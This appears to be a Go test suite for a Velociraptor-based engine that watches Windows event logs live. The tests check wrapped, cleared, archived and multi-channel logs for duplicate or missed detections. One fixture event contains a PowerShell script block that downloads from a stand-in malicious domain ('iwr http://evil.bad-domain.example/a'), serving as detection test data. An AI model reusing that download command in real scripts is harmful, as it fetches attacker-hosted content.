package engine

// What logs do in the field: they wrap, are cleared again and again, hold several channels, and are archived while they are watched.

import (
	"context"
	"encoding/binary"
	"fmt"
	"path/filepath"
	"strings"
	"time"

	"www.velocidex.com/golang/velociraptor/vtesting"
)

// withIdsFrom makes the ids in the header of a chunk and of its records go on, as Windows does: the tool counts those of each log from 1.
func withIdsFrom(chunk []byte, before int) []byte {
	moved := append([]byte{}, chunk...)
	add := func(at int) {
		binary.LittleEndian.PutUint64(moved[at:], binary.LittleEndian.Uint64(moved[at:])+uint64(before))
	}
	for _, at := range []int{8, 16, 24, 32} {
		add(at)
	}
	for at := 512; at+24 < len(moved) && string(moved[at:at+2]) == "**"; at += int(binary.LittleEndian.Uint32(moved[at+4:])) {
		add(at + 8)
	}
	return moved
}

// toldWithin waits until so many hits were told, and some seconds more for those that were told twice.
func (s *EngineSuite) toldWithin(hits int, w *watch) {
	s.T().Helper()
	for end := time.Now().Add(40 * time.Second); time.Now().Before(end) && w.told() < hits; {
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(4 * time.Second)
	s.Equal(hits, w.told(), w.logs.String())
}

func (s *EngineSuite) TestACircularLogThatGoesOnInItsFirstPartLosesNothing() {
	s.liveSetup()
	at := time.Now().Add(-time.Hour)
	part := func(first, last int) []byte {
		events := []map[string]any{}
		for n := first; n <= last; n++ {
			events = append(events, connection(n, at.Add(time.Duration(n)*time.Second), "203.0.113.7"))
		}
		l := s.growingLogOf("make_evtx.py", events...)
		s.Require().Len(l.chunks, 1)
		return withIdsFrom(l.chunks[0], first-1)
	}
	l := s.growingLogOf("make_evtx.py", connection(1, at, "203.0.113.7"))
	l.chunks = [][]byte{part(1, 60), part(61, 120), part(121, 140)} // the last part is not full yet
	l.show(s, 3)
	w := s.watchLive(l.path, nil)
	s.toldWithin(140, w)

	l.chunks = [][]byte{part(181, 200), part(61, 120), part(121, 180)} // between two looks it was filled, and the log wrapped
	l.show(s, 3)

	s.toldWithin(200, w)
	w.stop()
	again := s.watchLive(l.path, nil)
	s.toldWithin(0, again)
}

// Ids go up within a channel. PowerShell's are small, and its events reach the collector later than Sysmon's.
func (s *EngineSuite) TestACollectorsChannelsOfOneComputerHaveIdsOfTheirOwn() {
	s.Ctx = context.Background()
	s.servePublic()
	s.publishLive("1.0.1", theIndicator, [2]string{"domain", "evil.bad-domain.example"})
	at := time.Now().Add(-time.Hour).Truncate(time.Second)
	script := func(n int) map[string]any {
		return map[string]any{"EventID": 4104, "EventRecordID": 500 + n, "Provider": "Microsoft-Windows-PowerShell",
			"Guid": "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", "Channel": "Microsoft-Windows-PowerShell/Operational",
			"TimeCreated": at.Add(time.Duration(n) * time.Second).UTC().Format("2006-01-02T15:04:05.000Z"),
			"EventData": map[string]any{"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "iwr http://evil.bad-domain.example/a",
				"ScriptBlockId": fmt.Sprint(n), "Path": ""}}
	}
	events := []map[string]any{}
	for n := range 200 {
		events = append(events, connection(1000000+n, at.Add(time.Duration(n)*time.Second), "203.0.113.7"))
		if n >= 20 && n%10 == 0 {
			events = append(events, script(n-15))
		}
	}
	for n := range events {
		events[n]["Computer"] = "ws-1.corp.example"
	}
	l := s.growingLogOf("make_wec.py", events...)
	l.show(s, 1)
	w := s.watchLive(l.path, nil)
	for shown := 2; shown <= len(l.chunks); shown++ {
		time.Sleep(3 * time.Second)
		l.show(s, shown)
	}

	s.toldWithin(218, w)
}

func (s *EngineSuite) TestALogThatIsClearedAgainAndAgainTellsEachHitOnce() {
	s.liveSetup()
	var w *watch
	path := ""
	for round := range 3 {
		l := s.makeGrowingLogFrom(time.Now().Add(-30*time.Minute+time.Duration(round)*300*time.Second), 300, 1+300*round, "203.0.113.7")
		for n := range l.chunks {
			l.chunks[n] = withIdsFrom(l.chunks[n], 300*round)
		}
		if w == nil {
			path = l.path
			l.show(s, 1)
			w = s.watchLive(path, nil)
		}
		l.path = path
		for shown := 1; shown <= len(l.chunks); shown++ {
			l.show(s, shown)
			time.Sleep(4 * time.Second)
		}
		s.toldWithin(300*(1+round), w)
	}
}

func (s *EngineSuite) TestAnEventThatIsInALogAndInItsArchiveIsToldOnce() {
	feed := s.liveSetup()
	l := s.makeGrowingLog(300, 1, "203.0.113.7", "5.1.1.1")
	folder := s.tempDir()
	watched, archive := l.copyTo(filepath.Join(folder, "Sysmon.evtx")), l.copyTo(filepath.Join(folder, "Archive-Sysmon.evtx"))
	watched.show(s, 2)
	w := s.watchLive(folder+"/*.evtx", nil)
	s.toldWithin(len(s.want(watched, feed)), w)

	archive.show(s, 2)

	s.toldWithin(len(s.want(watched, feed)), w)
}

// A clock that was years ahead for a moment must not make each restart tell the whole log.
func (s *EngineSuite) TestAnEventOfTheFutureRepeatsNothingAtARestart() {
	s.liveSetup()
	at := time.Now().Add(-time.Hour)
	events := []map[string]any{}
	for n := range 200 {
		events = append(events, connection(1+n, at.Add(time.Duration(n)*time.Second), "203.0.113.7"))
	}
	events[20] = connection(21, at.Add(20*365*24*time.Hour), "203.0.113.7")
	l := s.growingLogOf("make_evtx.py", events...)
	l.show(s, len(l.chunks))
	w := s.watchLive(l.path, nil)
	s.toldWithin(200, w)
	w.stop()

	s.toldWithin(0, s.watchLive(l.path, nil))
}

func (s *EngineSuite) TestAFeedThatIsNoneIsNotKeptForTheNextStartEither() {
	feed := s.liveSetup()
	l := s.makeGrowingLog(300, 1, "203.0.113.7", "5.1.1.1")
	l.show(s, 1)
	w := s.watchLive(l.path, nil)
	s.waitForAllOf(l, feed, w)
	header, _, _ := strings.Cut(s.unzip(feed), "\n")
	s.feedIsRefused(w, "1.0.9", header+"\n")
	w.stop()

	l.show(s, len(l.chunks))

	again := s.watchLive(l.path, nil)
	s.toldWithin(len(s.want(l, feed))-w.told(), again)
}

func (s *EngineSuite) TestAHostWithoutALogIsNotCalledWatched() {
	s.liveSetup()
	for _, more := range []map[string]string{{"EvtxGlob": "/no/such/*.evtx"}, {"EvtxGlob": "", "Logs": "[]"}, {"EvtxGlob": "", "LogFolder": "/no/such"}} {
		more["StatusHours"] = "0.001"
		w := s.watchLive("", more)
		vtesting.WaitUntil(20*time.Second, s.T(), func() bool {
			w.mu.Lock()
			defer w.mu.Unlock()
			return len(w.rows) > 0 && w.rows[len(w.rows)-1]["Status"] == "not watched: no log"
		})
		w.stop()
	}
}
